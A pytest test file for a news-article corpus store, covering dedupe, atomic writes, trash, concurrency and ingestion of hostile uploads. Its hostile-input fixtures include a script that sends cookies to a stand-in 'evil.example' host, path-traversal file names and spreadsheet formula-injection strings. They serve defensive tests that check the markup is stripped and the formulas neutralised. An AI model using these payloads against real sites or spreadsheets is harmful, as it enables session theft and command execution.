"""The corpus store: atomic writes, dedupe, remove, rebuild, version change, concurrency,
hostile input. Most tests inject a cheap fake pipeline; one runs the real one end to end."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from core import schema
from core.corpus import inputs
from core.corpus import store as store_mod
from core.corpus.build import ArticlesRefused
from core.corpus.distributed import Workers
from core.corpus.store import AddReport, Store, StoreError, open_store, safe_label
from core.extract.ingest import content_hash as text_hash
from core.model import Article

ROOT = Path(__file__).resolve().parents[1]
CALLS: list[list[str]] = []  # article ids each fake analyse call received, in order


def fake_analyse(articles, *, progress=None, workers=None):
    """Per-article tables with one 'visit' event by Kim Jong Un per article; records the call
    (`workers`, the CLI's --workers plan, is ignored)."""
    CALLS.append([a.article_id for a in articles])
    if os.environ.get("FAKE_ANALYSE_MARK"):  # tells a test that this process is analysing now
        Path(os.environ["FAKE_ANALYSE_MARK"]).touch()
    if os.environ.get("FAKE_ANALYSE_SLEEP"):
        time.sleep(float(os.environ["FAKE_ANALYSE_SLEEP"]))
    rows = {k: [] for k in store_mod.PER_ARTICLE}
    for i, a in enumerate(articles):
        if "EXPLODE" in a.text:
            raise RuntimeError("pipeline bug")
        rows["articles"].append({
            "article_id": a.article_id, "file": a.file, "title": a.title, "source": a.source, "url": a.url,
            "published": a.published.isoformat() if a.published else None,
            "published_precision": "day" if a.published else None, "n_words": len(a.text.split()),
            "content_hash": a.content_hash, "text": a.text, "segments": "[]",
        })
        rows["events"].append({c: None for c in schema.columns("events")} | {
            "event_id": f"{a.article_id}-0", "article_id": a.article_id, "sentence_id": 0, "type": "visit",
            "trigger": a.text.split()[0], "start_char": 0, "end_char": 1, "sentence": a.text,
        })
        rows["event_actors"].append({"event_id": f"{a.article_id}-0", "actor": "Kim Jong Un", "role": "source"})
        if progress:
            progress(i + 1, len(articles))
    return {k: schema.validate(k, pd.DataFrame(v, columns=schema.columns(k))) for k, v in rows.items()}


def fake_aggregate(tables):
    """The eight tables: story id = event id, corpus-level tables empty."""
    out = dict(tables)
    out["events"] = tables["events"].assign(story_id=tables["events"]["event_id"])
    for name in ("actors", "places", "links"):
        out[name] = schema.empty(name)
    return out


def art(text: str, file: str = "a.txt", title: str = "T", published=date(2024, 6, 19)) -> Article:
    return Article(article_id="", file=file, title=title, text=text, published=published, source="Yonhap")


TEXTS = [
    "Putin visited Pyongyang on June 19 and met Kim Jong Un.",
    "North Korea shipped more than 11,000 containers of munitions to Russia.",
    "Kim Jong Un travelled to Vladivostok by armoured train.",
]


def make_store(path, **kwargs) -> Store:
    return open_store(path, seed=False, analyse=fake_analyse, aggregate=fake_aggregate, **kwargs)


@pytest.fixture
def store(tmp_path):
    CALLS.clear()
    return make_store(tmp_path / "store")


@pytest.fixture
def full_store(store):
    """A store holding TEXTS[0] and TEXTS[1], and a snapshot of what it holds."""
    store.add_articles([art(TEXTS[0], "one.txt", "One"), art(TEXTS[1], "two.txt", "Two")])
    CALLS.clear()
    return store


def snapshot(store: Store) -> dict:
    """What a user would lose: the listing and every table's rows."""
    return {"list": store.list(), **store.tables()}


def assert_kept(before: dict, store: Store):
    """Every article and table row in `before` is still in the store."""
    after = snapshot(store)
    assert set(before["list"]["article_id"]) <= set(after["list"]["article_id"])
    for name in schema.TABLES:
        old, new = before[name], after[name]
        if old.empty:
            continue
        merged = old.merge(new.drop_duplicates(), how="left", indicator=True)
        assert (merged["_merge"] == "both").all(), name


# ---------------------------------------------------------------- pure helpers


@pytest.mark.parametrize("name, label", [
    ("../../etc/passwd", "passwd"),
    ("C:\\Windows\\system.ini", "system.ini"),
    ("report\x00.txt\n", "report.txt"),
    (".hidden", "hidden"),
    ("", "unnamed"),
    ("https://example.com/a/b?c=1", "https://example.com/a/b?c=1"),
])
def test_store_safe_label_strips_path_parts(name, label):
    assert safe_label(name) == label


def test_store_text_hash_ignores_line_endings_and_trailing_space():
    assert text_hash("a  \r\nb\r\n") == text_hash("a\nb")
    assert text_hash("a\nb") != text_hash("a\nc")


def test_store_article_json_round_trip():
    a = store_mod.with_identity(art(TEXTS[0]))
    assert store_mod.article_from_json(json.loads(json.dumps(store_mod.article_to_json(a)))) == a


# ---------------------------------------------------------------- add, dedupe, list


def test_store_add_lists_and_tables(store):
    v0 = store.version()
    report = store.add_articles([art(TEXTS[0], "one.txt", "One"), art(TEXTS[1], "two.txt", "Two")])
    ids = [text_hash(t)[:16] for t in TEXTS[:2]]
    assert report == AddReport(added=[(ids[0], "one.txt", "One"), (ids[1], "two.txt", "Two")])
    expected = pd.DataFrame({
        "article_id": ids, "published": ["2024-06-19"] * 2, "title": ["One", "Two"],
        "source": ["Yonhap"] * 2, "file": ["one.txt", "two.txt"],
    }).astype("string")
    pd.testing.assert_frame_equal(store.list(), expected)
    tables = store.tables()
    assert sorted(tables) == sorted(schema.TABLES)
    assert sorted(tables["events"]["story_id"]) == sorted(f"{i}-0" for i in ids)
    assert store.version() != v0
    assert sorted(p.name for p in (store.path / "raw").iterdir()) == sorted(f"{i}.json" for i in ids)


def test_store_dedupes_by_content(full_store):
    v = full_store.version()
    report = full_store.add_articles([art(TEXTS[0] + "\r\n", "copy.txt"), art(TEXTS[2], "three.txt"),
                                      art(TEXTS[2], "again.txt")])
    id0, id2 = text_hash(TEXTS[0])[:16], text_hash(TEXTS[2])[:16]
    assert report.duplicates == [("copy.txt", id0), ("again.txt", id2)]
    assert [a[0] for a in report.added] == [id2]
    assert len(full_store.list()) == 3
    assert CALLS == [[id2]]  # noqa: SIM300 (a call log, not a constant) only the new article was analysed
    assert full_store.version() != v


def test_store_all_duplicates_changes_nothing(full_store):
    v = full_store.version()
    report = full_store.add_articles([art(TEXTS[1], "dup.txt")])
    assert report.added == [] and len(report.duplicates) == 1
    assert full_store.version() == v and CALLS == []


def test_store_pipeline_failure_refuses_only_that_article(full_store):
    before = snapshot(full_store)
    report = full_store.add_articles([art("EXPLODE now", "bad.txt"), art(TEXTS[2], "three.txt")])
    assert [r[0] for r in report.refused] == ["bad.txt"]
    assert "pipeline bug" in report.refused[0][1]
    assert [a[1] for a in report.added] == ["three.txt"]
    assert_kept(before, full_store)


def test_store_passes_its_workers_plan_and_refuses_the_articles_a_dask_run_refused(tmp_path):
    """A store with a Workers plan hands it to its analyse hook; the articles that hook reports as
    refused (ArticlesRefused, as a Dask run raises it) are refused, not retried in-process, and
    the others are stored with the rows it returned."""
    plans = []

    def on_dask(articles, *, progress=None, workers=None):
        plans.append(workers)
        bad = [a for a in articles if "CRASHES" in a.text]
        tables = fake_analyse([a for a in articles if a not in bad])
        if bad:
            crashed = "analysing it crashed a Dask worker process twice"
            raise ArticlesRefused(tables, [(a.article_id, crashed) for a in bad])
        return tables

    plan = Workers(count=2)
    s = open_store(tmp_path / "s", seed=False, analyse=on_dask, aggregate=fake_aggregate, workers=plan)
    report = s.add_articles([art(TEXTS[0], "one.txt"), art("CRASHES the worker", "bad.txt"), art(TEXTS[1], "two.txt")])
    assert report.refused == [("bad.txt", "analysing it crashed a Dask worker process twice")]
    assert [a[1] for a in report.added] == ["one.txt", "two.txt"]
    assert plans == [plan]  # one call: the refusal came with the others' rows
    assert sorted(s.tables()["articles"]["file"]) == ["one.txt", "two.txt"]


def test_store_report_frame():
    report = AddReport(added=[("a" * 16, "x.txt", "X")], duplicates=[("y.txt", "b" * 16)],
                       refused=[("z.bin", "binary")])
    frame = report.to_frame()
    assert frame.to_dict("records") == [
        {"file": "x.txt", "outcome": "added", "article_id": "a" * 16, "detail": "X"},
        {"file": "y.txt", "outcome": "duplicate", "article_id": "b" * 16, "detail": f"already stored as {'b' * 16}"},
        {"file": "z.bin", "outcome": "refused", "article_id": None, "detail": "binary"},
    ]
    assert report.summary() == "1 added, 1 duplicates, 1 refused" and not report.ok


# ---------------------------------------------------------------- remove, rebuild, versions


def test_store_remove(full_store):
    id0, id1 = full_store.ids()
    removed = full_store.remove([id0, "ffffffffffffffff", "../manifest", id0])
    assert removed == [id0]
    assert full_store.ids() == [id1]
    tables = full_store.tables()
    assert set(tables["events"]["article_id"]) == {id1}
    assert set(tables["event_actors"]["event_id"]) == {f"{id1}-0"}
    assert not (full_store.path / "raw" / f"{id0}.json").exists()
    assert (full_store.path / "manifest.json").exists()


def test_store_remove_nothing_known_changes_nothing(full_store):
    v = full_store.version()
    assert full_store.remove(["../../etc/passwd", "0123456789abcdef"]) == []
    assert full_store.version() == v


def test_store_remove_then_add_again(full_store):
    id0 = full_store.ids()[0]
    full_store.remove([id0])
    report = full_store.add_articles([art(TEXTS[0], "one.txt", "One")])
    assert [a[0] for a in report.added] == [id0]


def test_store_rebuild_reprocesses_all_from_raw(full_store):
    before = snapshot(full_store)
    report = full_store.rebuild()
    assert sorted(report.rebuilt) == sorted(full_store.ids()) and report.kept == []
    assert sorted(CALLS[0]) == sorted(full_store.ids())
    after = snapshot(full_store)
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(after[name], before[name])


def test_store_pipeline_version_change_marks_tables_stale_and_rebuild_reprocesses(full_store):
    """A read never re-analyses (issue 7): stale tables are read as stored, `stale()` says so,
    and `rebuild()` re-processes once."""
    before = full_store.tables()
    newer = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, pipeline_version="99.0")
    assert newer.stale()
    tables = newer.tables()
    assert CALLS == [] and newer.stale()
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(tables[name], before[name])
    newer.rebuild()
    assert sorted(CALLS[0]) == sorted(full_store.ids())
    assert len(newer.tables()["events"]) == 2
    assert newer.manifest()["pipeline_version"] == "99.0" and not newer.stale()
    CALLS.clear()
    newer.tables()
    assert CALLS == []  # re-processed once, not on every read


def test_store_version_change_on_add_reprocesses_old_articles(full_store):
    newer = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, model="other-model-1.0")
    newer.add_articles([art(TEXTS[2], "three.txt")])
    assert sorted(i for call in CALLS for i in call) == sorted(newer.ids())
    assert newer.manifest()["model"] == "other-model-1.0"


def test_store_rebuild_keeps_article_whose_raw_is_lost(full_store):
    id0, id1 = full_store.ids()
    (full_store.path / "raw" / f"{id0}.json").write_text("{not json")
    report = full_store.rebuild()
    assert report.rebuilt == [id1] and [k[0] for k in report.kept] == [id0]
    assert sorted(full_store.tables()["events"]["article_id"]) == sorted([id0, id1])


# ---------------------------------------------------------------- atomicity


def test_store_crash_while_writing_tables_keeps_previous_state(full_store, monkeypatch):
    before, v = snapshot(full_store), full_store.version()
    calls = []

    def crash(folder, tables):
        calls.append(folder)
        if len(calls) == 2:
            raise OSError("disk full")
        return real(folder, tables)

    real = store_mod.write_tables
    monkeypatch.setattr(store_mod, "write_tables", crash)
    with pytest.raises(OSError, match="disk full"):
        full_store.add_articles([art(TEXTS[2], "three.txt")])
    monkeypatch.undo()
    assert full_store.version() == v
    assert_kept(before, full_store)
    assert len(full_store.list()) == 2
    assert not [p for p in (full_store.path / "gen").iterdir() if p.name.startswith(".tmp")]
    assert [a[1] for a in full_store.add_articles([art(TEXTS[2], "three.txt")]).added] == ["three.txt"]


def test_store_crash_while_replacing_manifest_keeps_previous_state(full_store, monkeypatch):
    before, v = snapshot(full_store), full_store.version()
    real_replace = os.replace

    def crash(src, dst):
        if str(dst).endswith("manifest.json"):
            raise OSError("power cut")
        return real_replace(src, dst)

    monkeypatch.setattr(store_mod.os, "replace", crash)
    with pytest.raises(OSError, match="power cut"):
        full_store.add_articles([art(TEXTS[2], "three.txt")])
    monkeypatch.undo()
    assert full_store.version() == v
    assert_kept(before, full_store)
    assert not list(full_store.path.glob(".manifest.json.*"))
    fresh = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate)
    assert len(fresh.list()) == 2 and len(fresh.tables()["events"]) == 2


def test_store_corrupt_manifest_is_a_clear_error(full_store):
    full_store.manifest_path.write_text("{")
    with pytest.raises(StoreError, match="cannot be read"):
        full_store.list()


# ---------------------------------------------------------------- opening


def test_store_open_uses_env_and_creates_empty(tmp_path, monkeypatch):
    monkeypatch.setenv("NEWSDASH_STORE", str(tmp_path / "s"))
    s = make_store(None)
    assert s.path == tmp_path / "s"
    assert s.list().empty and all(t.empty for t in s.tables().values())
    assert list(s.list().columns) == store_mod.LIST_COLUMNS


def test_store_open_refuses_a_folder_that_is_not_a_store(tmp_path):
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(StoreError, match="not a corpus store"):
        make_store(tmp_path)
    assert (tmp_path / "notes.txt").read_text() == "mine"


def test_store_open_seeds_from_repo(tmp_path):
    CALLS.clear()
    s = open_store(tmp_path / "s", analyse=fake_analyse, aggregate=fake_aggregate)
    n_seeds = len(list((ROOT / "seeds").glob("*.txt")))
    assert len(s.list()) == n_seeds
    assert s.manifest()["seed_pending"] is False
    CALLS.clear()
    again = open_store(tmp_path / "s", analyse=fake_analyse, aggregate=fake_aggregate)
    assert CALLS == [] and len(again.list()) == n_seeds


def test_store_failed_seeding_is_retried_on_next_open(tmp_path):
    def broken(articles, *, progress=None):
        raise RuntimeError("no model installed")

    first = open_store(tmp_path / "s", analyse=broken, aggregate=fake_aggregate)
    assert first.list().empty and first.manifest()["seed_pending"] is True
    again = open_store(tmp_path / "s", analyse=fake_analyse, aggregate=fake_aggregate)
    assert len(again.list()) == len(list((ROOT / "seeds").glob("*.txt")))
    assert again.manifest()["seed_pending"] is False


# ---------------------------------------------------------------- concurrency

WORKER = """
import sys
sys.path.insert(0, {tests!r})
import test_store
from core.corpus.store import Store
s = Store({path!r}, analyse=test_store.fake_analyse, aggregate=test_store.fake_aggregate)
for i in range({n}):
    s.add_articles([test_store.art("worker {tag} article " + str(i) + " visited Pyongyang",
                                   "w{tag}_" + str(i) + ".txt")])
print(len(s.list()))
"""


def test_store_two_processes_adding_at_once_keep_everything(full_store):
    env = {**os.environ, "FAKE_ANALYSE_SLEEP": "0.05", "PYTHONPATH": str(ROOT)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", WORKER.format(tests=str(ROOT / "tests"), path=str(full_store.path), n=4, tag=tag)],
            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for tag in ("a", "b")
    ]
    for p in procs:
        _, err = p.communicate(timeout=60)
        assert p.returncode == 0, err
    files = set(full_store.list()["file"])
    assert files == {"one.txt", "two.txt"} | {f"w{t}_{i}.txt" for t in "ab" for i in range(4)}
    assert len(full_store.tables()["events"]) == 10
    assert len([p for p in (full_store.path / "gen").iterdir()]) <= store_mod.KEEP_GENERATIONS


def test_store_busy_lock_is_a_clear_error(full_store):
    from filelock import FileLock

    other = FileLock(str(full_store.path / ".lock"))
    busy = Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, lock_timeout=0.2)
    with other, pytest.raises(StoreError, match="busy"):
        busy.remove(busy.ids())
    assert len(busy.list()) == 2


# ---------------------------------------------------------------- hostile input (core.extract.ingest)

# (Markup inside <title> is literal text by the HTML spec, so the hostile parts are in the body.)
SCRIPT_HTML = (b"<html><head><title>Talks in Pyongyang</title>"
               b"<script>document.location='http://evil.example/?c='+document.cookie</script></head>"
               b"<body onload=\"steal()\"><h1>Talks <script>alert(1)</script>in Pyongyang</h1>"
               b"<p>Sergei Shoigu met Kim Jong Un in Pyongyang on Friday.</p>"
               b"<p><a href=\"javascript:alert(2)\" onclick=\"alert(3)\">The talks</a> covered the treaty.</p>"
               b"<iframe src=\"http://evil.example\"></iframe><style>p{}</style></body></html>")
HOSTILE = [
    ("empty.txt", b"", "refused"),
    ("blank.md", b"  \n\t\r\n  ", "refused"),
    ("binary.txt", bytes(range(256)) * 16, "refused"),
    ("image.html", b"\x89PNG\r\n\x1a\n" + bytes(300), "refused"),
    ("oversized.txt", b"Kim Jong Un visited Moscow. " * 100, "refused"),  # store limit: 1,000 bytes
    ("../../etc/passwd.txt", b"Putin visited Pyongyang in June and signed a treaty with Kim Jong Un.", "added"),
    ("script.html", SCRIPT_HTML, "added"),
    ("formula.txt", b"=cmd|' /C calc'!A0\n\n+SUM(A1:A9) North Korea shipped shells to Russia.", "added"),
]


def add_bytes(store: Store, data: bytes, name: str) -> AddReport:
    """An uploaded file's articles (core.corpus.inputs), stored."""
    return store.add_articles(*inputs.from_bytes(data, name, max_bytes=store.max_bytes))


@pytest.fixture
def hostile_store(full_store):
    return Store(full_store.path, analyse=fake_analyse, aggregate=fake_aggregate, max_bytes=1000)


@pytest.mark.parametrize("name, data, outcome", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_store_hostile_input_keeps_the_store(hostile_store, name, data, outcome):
    before = snapshot(hostile_store)
    report = add_bytes(hostile_store, data, name)
    outcomes = [("added", a[1]) for a in report.added] + [("refused", r[0]) for r in report.refused]
    assert outcomes == [(outcome, safe_label(name))]
    assert all(reason.strip() for _, reason in report.refused)
    assert_kept(before, hostile_store)
    assert len(hostile_store.list()) == 2 + (outcome == "added")
    written = {p.relative_to(hostile_store.path).parts[0] for p in hostile_store.path.rglob("*")}
    assert written <= {"manifest.json", ".lock", "raw", "gen"}


def test_store_hostile_html_keeps_no_markup(hostile_store):
    add_bytes(hostile_store, SCRIPT_HTML, "script.html")
    row = hostile_store.tables()["articles"].set_index("file").loc["script.html"]
    assert "Sergei Shoigu met Kim Jong Un in Pyongyang" in row["text"]
    for markup in ("<script", "document.cookie", "steal()", "onload", "onclick", "javascript:", "<iframe",
                   "evil.example", "<"):
        assert markup not in row["text"] and markup not in row["title"]


@pytest.mark.parametrize("name, data, readable", [
    ("latin1.txt", "Kim Jong Un a rencontré Poutine à Vladivostok, a annoncé l'agence.".encode("latin-1"), "rencontré"),
    ("cp1252.txt",
     "Putin\u2019s visit to Pyongyang \u2013 the first since 2000 \u2013 ended on Thursday.".encode("cp1252"),
     "Putin\u2019s visit"),
    ("utf16.txt", "Kim Jong Un visited the Vostochny cosmodrome in September.".encode("utf-16"),
     "Vostochny cosmodrome"),
])
def test_store_wrong_encoding_is_decoded_or_refused(hostile_store, name, data, readable):
    before = snapshot(hostile_store)
    report = add_bytes(hostile_store, data, name)
    assert len(report.added) + len(report.refused) == 1
    if report.added:
        text = hostile_store.tables()["articles"].set_index("file").loc[name, "text"]
        assert readable in text and "\ufffd" not in text
    assert_kept(before, hostile_store)


@pytest.mark.parametrize("name, data", [
    ("broken.html", b"<html><body><p>Kim Jong Un visited <b>Moscow</p><div><table><tr><td>and Vladivostok"),
    ("broken.jsonl", b'{"title": "Kim in Moscow", "text": "Kim Jong Un visited Moscow in 2023."}\n{"title": oops\n'),
    ("notjson.jsonl", b"this is not JSON at all\n"),
    ("deep.html", b"<div>" * 5000 + b"Kim Jong Un visited Moscow." + b"</div>" * 5000),
])
def test_store_malformed_input_is_reported_and_keeps_the_store(hostile_store, name, data):
    before = snapshot(hostile_store)
    hostile_store.max_bytes = 100_000
    report = add_bytes(hostile_store, data, name)
    assert report.added or report.refused
    assert all(reason.strip() for _, reason in report.refused)
    for article_id, _, _ in report.added:
        text = hostile_store.tables()["articles"].set_index("article_id").loc[article_id, "text"]
        assert "Kim Jong Un visited Moscow" in text and "<" not in text
    assert_kept(before, hostile_store)


def test_store_export_neutralises_formulas(hostile_store, tmp_path):
    import csv

    add_bytes(hostile_store, HOSTILE[-1][1], "formula.txt")
    hostile_store.add_articles([art("@SUM(1+1) Kim visited Moscow.", "-2+3.txt", "=HYPERLINK(\"http://evil.example\")")])
    paths = hostile_store.export(tmp_path / "csv")
    assert sorted(p.name for p in paths) == sorted(f"{t}.csv" for t in schema.TABLES)
    cells = []
    for path in paths:
        with open(path, newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                 or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
    assert dangerous == []
    assert "'=cmd|' /C calc'!A0" in "\n".join(cells)


def test_store_real_pipeline_end_to_end(tmp_path):
    """Seeded with the real pipeline: tables, then an added text, then a removal."""
    s = open_store(tmp_path / "store")
    n_seeds = len(list((ROOT / "seeds").glob("*.txt")))
    tables = s.tables()
    assert len(s.list()) == n_seeds and len(tables["events"]) > 0 and len(tables["actors"]) > 0
    assert s.manifest()["model"] != "none"
    report = s.add_articles(*inputs.from_text(
        "Russian Defence Minister Andrei Belousov arrived in Pyongyang on November 29, 2024, and met Kim Jong Un.",
        title="Belousov in Pyongyang", published=date(2024, 11, 30), source="KCNA"))
    (article_id, _, title), = report.added
    assert title == "Belousov in Pyongyang"
    events = s.tables()["events"]
    assert (events["article_id"] == article_id).any()
    assert s.remove([article_id]) == [article_id]
    assert len(s.tables()["events"]) == len(tables["events"])


# ---------------------------------------------------------------- raw files, default place


def raw_ids(store: Store) -> list[str]:
    return sorted(p.stem for p in (store.path / "raw").glob("*.json"))


def test_store_raw_files_only_for_stored_articles(hostile_store):
    """Neither an input refused at ingest nor an article the pipeline fails on leaves a raw file."""
    report = hostile_store.add_articles([art("EXPLODE now", "bad.txt"), art(TEXTS[2], "three.txt")])
    assert [r[0] for r in report.refused] == ["bad.txt"]
    for name, data, _ in HOSTILE:
        add_bytes(hostile_store, data, name)
    add_bytes(hostile_store, b"<html><head><title>Deep</title></head><body>" + b"<div>" * 300
              + b"Kim Jong Un visited Moscow on Tuesday and met Vladimir Putin. " * 5 + b"</div>" * 300, "deep.html")
    assert raw_ids(hostile_store) == sorted(hostile_store.ids())


def test_store_default_path_is_the_user_data_folder(monkeypatch, tmp_path):
    import platformdirs

    monkeypatch.delenv("NEWSDASH_STORE", raising=False)
    path = store_mod.store_path()
    assert path == Path(platformdirs.user_data_dir("newsdash", appauthor=False)) / "store"
    assert ROOT not in path.parents
    monkeypatch.setenv("NEWSDASH_STORE", str(tmp_path / "elsewhere"))
    assert store_mod.store_path() == tmp_path / "elsewhere"
    assert store_mod.store_path(tmp_path / "given") == tmp_path / "given"

# ---------------------------------------------------------------- trash: remove, restore, purge


@pytest.fixture
def three_store(full_store):
    """A store holding the three TEXTS, added in two batches."""
    full_store.add_articles([art(TEXTS[2], "three.txt", "Three")])
    CALLS.clear()
    return full_store


def test_store_remove_moves_to_trash_with_who_and_when(three_store, monkeypatch):
    monkeypatch.setenv("NEWSDASH_USER", "alice")
    id0, id1, _ = three_store.ids()
    assert three_store.remove([id1]) == [id1]
    trash = three_store.trash()
    assert list(trash["article_id"]) == [id1] and list(trash["removed_by"]) == ["alice"]
    assert list(trash["title"]) == ["Two"] and list(trash["file"]) == ["two.txt"]
    assert trash["removed_at"][0][:4].isdigit() and trash["removed_at"][0].endswith("Z")
    assert not (three_store.path / "raw" / f"{id1}.json").exists()
    assert id1 not in set(three_store.tables()["events"]["article_id"])
    assert three_store.remove([id0], user="bob") == [id0]
    assert list(three_store.trash()["removed_by"].sort_values()) == ["alice", "bob"]


def test_store_remove_then_restore_gives_the_same_tables(three_store):
    before, manifest = snapshot(three_store), three_store.manifest()["articles"]
    raw_before = {p.name: p.read_bytes() for p in (three_store.path / "raw").iterdir()}
    middle = three_store.ids()[1]
    three_store.remove([middle])
    assert three_store.restore([middle, "ffffffffffffffff"]) == [middle]
    after = snapshot(three_store)
    pd.testing.assert_frame_equal(after["list"], before["list"])
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)
    assert three_store.manifest()["articles"] == manifest  # same order, same 'added'
    assert {p.name: p.read_bytes() for p in (three_store.path / "raw").iterdir()} == raw_before
    assert three_store.trash().empty and not list((three_store.path / "trash").iterdir())
    assert CALLS == []  # the rows came back from the trash, nothing re-analysed


def test_store_remove_all_then_restore_all(three_store):
    before = snapshot(three_store)
    ids = three_store.ids()
    three_store.remove(ids)
    assert three_store.tables()["events"].empty and three_store.ids() == []
    assert sorted(three_store.restore(list(three_store.trash()["article_id"]))) == sorted(ids)
    after = snapshot(three_store)
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)


def test_store_restore_after_a_pipeline_change_reanalyses(three_store):
    gone = three_store.ids()[0]
    three_store.remove([gone])
    newer = Store(three_store.path, analyse=fake_analyse, aggregate=fake_aggregate, pipeline_version="99.0")
    assert newer.restore([gone]) == [gone]
    assert any(gone in call for call in CALLS)
    assert sorted(newer.tables()["events"]["article_id"]) == sorted(three_store.ids())
    assert newer.manifest()["pipeline_version"] == "99.0" and not newer.stale()


def test_store_purge_by_id_and_all(three_store):
    id0, id1, id2 = three_store.ids()
    three_store.remove([id0, id1])
    v = three_store.version()
    assert three_store.purge([id0, id2]) == [id0]
    assert list(three_store.trash()["article_id"]) == [id1]
    assert three_store.restore([id0]) == []
    assert three_store.purge() == [id1]
    assert three_store.trash().empty and three_store.ids() == [id2]
    assert three_store.version() == v  # purging touches only the trash


def test_store_article_added_again_leaves_the_trash(three_store):
    gone = three_store.ids()[0]
    three_store.remove([gone])
    three_store.add_articles([art(TEXTS[0], "again.txt", "One")])
    assert three_store.trash().empty and not list((three_store.path / "trash").iterdir())
    assert three_store.restore([gone]) == []
    assert gone in three_store.ids() and len(three_store.ids()) == 3


# ---------------------------------------------------------------- missing raw files, leftovers, lock waits


def test_store_missing_raw_file_is_reported_and_does_not_crash_writes(three_store):
    id0, _, id2 = three_store.ids()
    (three_store.path / "raw" / f"{id0}.json").unlink()
    assert [m[0] for m in three_store.missing_raw()] == [id0]
    assert "missing" in three_store.missing_raw()[0][1]
    newer = Store(three_store.path, analyse=fake_analyse, aggregate=fake_aggregate, pipeline_version="99.0")
    # a write to a stale store re-processes what it can and keeps the rest as it was
    report = newer.add_articles([art("Lavrov met Choe Son Hui in Moscow.", "four.txt")])
    assert len(report.added) == 1
    assert newer.remove([id2]) == [id2]
    assert sorted(newer.tables()["events"]["article_id"]) == sorted(newer.ids())
    assert id0 in newer.ids()
    rebuilt = newer.rebuild()
    assert [k[0] for k in rebuilt.kept] == [id0] and "raw/" in rebuilt.kept[0][1] and "missing" in rebuilt.kept[0][1]


def test_store_open_cleans_the_leftovers_of_a_killed_writer(three_store):
    before, manifest = snapshot(three_store), three_store.manifest()
    root = three_store.path
    leftovers = [
        root / "raw" / "0123456789abcdef.json",          # raw file of an add that never committed
        root / "raw" / f".{three_store.ids()[0]}.json.abcdef.tmp",
        root / f".manifest.json.{'1' * 12}.tmp",
        root / "gen" / ".tmp-abcdef123456" / "per_article" / "articles.parquet",
        root / "gen" / str(manifest["generation"] + 1) / "corpus" / "events.parquet",  # renamed, never committed
        root / "trash" / ".tmp-abcdef123456" / "entries.json",
        root / "trash" / "0001-unfinished" / "entries.json",   # trash copy of a remove that never committed
    ]
    for path in leftovers:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("partial")
    leftovers[-1].write_text(json.dumps({"articles": {three_store.ids()[1]: {"entry": {}, "position": 1}}}))
    fresh = make_store(root)
    assert not [p for p in leftovers if p.exists()]
    assert not (root / "gen" / str(manifest["generation"] + 1)).exists()
    assert fresh.manifest() == manifest and fresh.trash().empty
    after = snapshot(fresh)
    for name in schema.TABLES:
        pd.testing.assert_frame_equal(after[name], before[name], obj=name)


def test_store_open_leaves_a_busy_store_alone(full_store):
    from filelock import FileLock

    leftover = full_store.path / "raw" / ".x.json.abc.tmp"
    leftover.write_text("being written")
    with FileLock(str(full_store.path / ".lock")):
        start = time.monotonic()
        make_store(full_store.path)
        assert time.monotonic() - start < 5
        assert leftover.exists()


def test_store_lock_timeout_per_write(full_store):
    from filelock import FileLock

    with FileLock(str(full_store.path / ".lock")):
        start = time.monotonic()
        with pytest.raises(store_mod.StoreBusy, match="another process is writing"):
            full_store.remove(full_store.ids(), lock_timeout=0.3)
        assert time.monotonic() - start < 3
        quick = make_store(full_store.path, lock_timeout=0.3)
        with pytest.raises(store_mod.StoreBusy):
            quick.add_articles([art(TEXTS[2], "three.txt")])
    assert len(full_store.list()) == 2
    assert not list((full_store.path / "raw").glob("*.tmp"))
    assert len(list((full_store.path / "raw").glob("*.json"))) == 2  # no raw file for the refused add


# ---------------------------------------------------------------- a writer killed mid-save

KILLED_WRITER = """
import os, sys, time
sys.path.insert(0, {tests!r})
import test_store
from core.corpus import store as store_mod
from core.corpus.store import Store

point, ready = {point!r}, {ready!r}

def hang():
    open(ready, "w").close()
    time.sleep(600)

real_write_tables, real_rename, real_write_atomic = store_mod.write_tables, store_mod.os.rename, store_mod.write_atomic
seen = []

def write_tables(folder, tables):
    real_write_tables(folder, dict(list(tables.items())[:2]))
    if point == "tables":
        hang()
    real_write_tables(folder, tables)

def rename(src, dst):
    real_rename(src, dst)
    if point == "rename-" + os.path.basename(os.path.dirname(dst)):
        hang()

def write_atomic(path, data):
    seen.append(path.name)
    if point == "manifest" and path.name == "manifest.json":
        tmp = path.with_name("." + path.name + ".killedwrite.tmp")
        tmp.write_bytes(data[: len(data) // 2])
        hang()
    real_write_atomic(path, data)
    if point == "raw" and path.parent.name == "raw":
        hang()

store_mod.write_tables, store_mod.os.rename, store_mod.write_atomic = write_tables, rename, write_atomic
s = Store({path!r}, analyse=test_store.fake_analyse, aggregate=test_store.fake_aggregate)
if {action!r} == "add":
    s.add_articles([test_store.art("Shoigu flew to Pyongyang for talks with Kim Jong Un.", "killed.txt")])
elif {action!r} == "remove":
    s.remove(s.ids()[:1])
else:
    s.restore(list(s.trash()["article_id"]))
"""


@pytest.mark.parametrize("action, point", [
    ("add", "raw"), ("add", "tables"), ("add", "rename-gen"), ("add", "manifest"),
    ("remove", "rename-trash"), ("remove", "tables"), ("remove", "manifest"),
    ("restore", "tables"), ("restore", "rename-gen"), ("restore", "manifest"),
])
def test_store_writer_killed_mid_save_leaves_the_previous_state(full_store, tmp_path, action, point):
    import signal

    if action == "restore":
        full_store.remove(full_store.ids()[:1])
    before, manifest, trash = snapshot(full_store), full_store.manifest(), full_store.trash()
    ready = tmp_path / "ready"
